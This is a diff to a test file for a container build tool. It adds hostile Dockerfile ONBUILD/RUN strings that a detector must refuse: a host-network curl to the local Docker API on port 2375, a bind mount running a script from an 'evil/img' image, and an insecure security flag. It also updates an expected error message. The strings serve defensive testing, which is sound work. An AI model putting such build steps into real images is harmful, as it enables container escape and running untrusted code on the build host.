@@ -23,6 +23,10 @@ describe('ONBUILD triggers that fetch outside the build boundary', () => {
     'COPY --from=evil.example/img:1 /etc/x /x',
     'COPY --FROM=0 /a /b',
     'ADD --from=evil/img /a /b',
+    // Podman's builder honours RUN flags: a step would leave the relay's network or mount an image.
+    'RUN --network=host curl http://127.0.0.1:2375/',
+    'RUN --mount=type=bind,from=evil/img,target=/m sh /m/x',
+    'run   --security=insecure id',
   ];
   it.each(hostile)('refuses "ONBUILD %s"', (t) => {
     expect(fetchingTriggers([t])).toEqual([t]);
@@ -79,7 +83,7 @@ describe('ensureImage and a base image with a fetching ONBUILD', () => {
         },
       }),
     });
-    await expect(run).rejects.toThrow(/The base image evil\/base:1 has ONBUILD steps that the engine would fetch itself/);
+    await expect(run).rejects.toThrow(/The base image evil\/base:1 has ONBUILD steps that would fetch or run outside the build's network boundary/);
     expect(calls).toEqual(['imageExists', 'imageExists', 'inspectImage']);
     expect(done).toEqual([false]);
     expect((await readdir(join(home, 'builds'))).filter((f) => f.startsWith('gw-'))).toEqual([]);
